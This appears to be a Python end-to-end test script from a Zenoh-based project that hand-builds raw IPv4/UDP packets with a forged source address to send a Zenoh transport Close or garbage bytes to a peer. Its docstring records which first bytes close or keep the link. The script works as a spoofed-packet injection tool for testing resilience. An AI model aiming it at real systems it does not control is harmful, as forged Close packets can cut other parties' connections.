"""Send UDP datagrams with a forged source address (an on-path or off-path attacker's packet).

    python tests/e2e/udp_spoof.py --src 10.0.0.1:7447 --dst 10.0.0.2:40312 --hex 2300 [--count 1]

Builds each IPv4/UDP packet by hand on a raw socket (``IP_HDRINCL``: needs root or
CAP_NET_RAW), so the source address and port are whatever ``--src`` says: the receiver's
kernel hands the datagram to the socket connected to that source, as if the real peer had
sent it. ``--hex`` is the UDP payload (``2300``: a Zenoh transport Close); ``--garbage N``
sends N bytes of garbage instead: a first byte whose message id (its low five bits) Zenoh's
transport does not know (``0x1f``), then random bytes. Fully random bytes are not always
garbage to Zenoh: a first byte with id 6 (a Fragment, 8 of the 256 values) is taken as a
fragment out of sequence and dropped, the link kept (measured on loopback, a random tail
each try: 0x06, 0x26, 0x46 and 0xc6 left the link up in 12 of 13 tries; ids 0-5 and 7-31
closed it, 0x1f in 5 of 5; a CI run once failed on it). Prints one JSON line ``{"sent": n, "bytes": size}``.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import struct
import sys
import time


def _addr(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(src: tuple[str, int], dst: tuple[str, int], payload: bytes) -> bytes:
    """One IPv4 packet carrying ``payload`` in a UDP datagram from ``src`` to ``dst``."""
    s_ip, d_ip = socket.inet_aton(src[0]), socket.inet_aton(dst[0])
    length = 8 + len(payload)
    pseudo = s_ip + d_ip + struct.pack("!BBH", 0, socket.IPPROTO_UDP, length)
    udp = struct.pack("!HHHH", src[1], dst[1], length, 0)
    csum = _checksum(pseudo + udp + payload) or 0xFFFF
    udp = struct.pack("!HHHH", src[1], dst[1], length, csum)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + length, os.getpid() & 0xFFFF, 0, 64, socket.IPPROTO_UDP, 0, s_ip, d_ip
    )
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    return ip + udp + payload


#: A first byte whose message id (its low five bits, 31) no Zenoh transport message has.
UNKNOWN_ID = 0x1F


def garbage(n: int) -> bytes:
    """Return ``n`` bytes Zenoh's transport cannot read: an unknown message id, then random bytes."""
    return bytes([UNKNOWN_ID]) + os.urandom(n - 1) if n > 0 else b""


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    ap.add_argument("--src", required=True, help="forged source IP:PORT")
    ap.add_argument("--dst", required=True, help="destination IP:PORT")
    ap.add_argument("--hex", default="2300", help="payload as hex (default: a Zenoh Close)")
    ap.add_argument(
        "--garbage", type=int, default=0, help="send this many bytes of garbage (0x1f, then random) instead of --hex"
    )
    ap.add_argument("--count", type=int, default=1, help="datagrams to send (1-1000)")
    ap.add_argument("--gap", type=float, default=0.01, help="seconds between two datagrams")
    a = ap.parse_args(argv)
    if not 1 <= a.count <= 1000 or not 0 <= a.garbage <= 1400:
        ap.error(f"--count {a.count} / --garbage {a.garbage}: allowed: --count 1-1000, --garbage 0-1400")
    src, dst = _addr(a.src), _addr(a.dst)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        size = 0
        for i in range(a.count):
            payload = garbage(a.garbage) if a.garbage else bytes.fromhex(a.hex)
            size = len(payload)
            s.sendto(packet(src, dst, payload), (dst[0], 0))
            if i + 1 < a.count:
                time.sleep(a.gap)
    sys.stdout.write(json.dumps({"sent": a.count, "bytes": size}) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
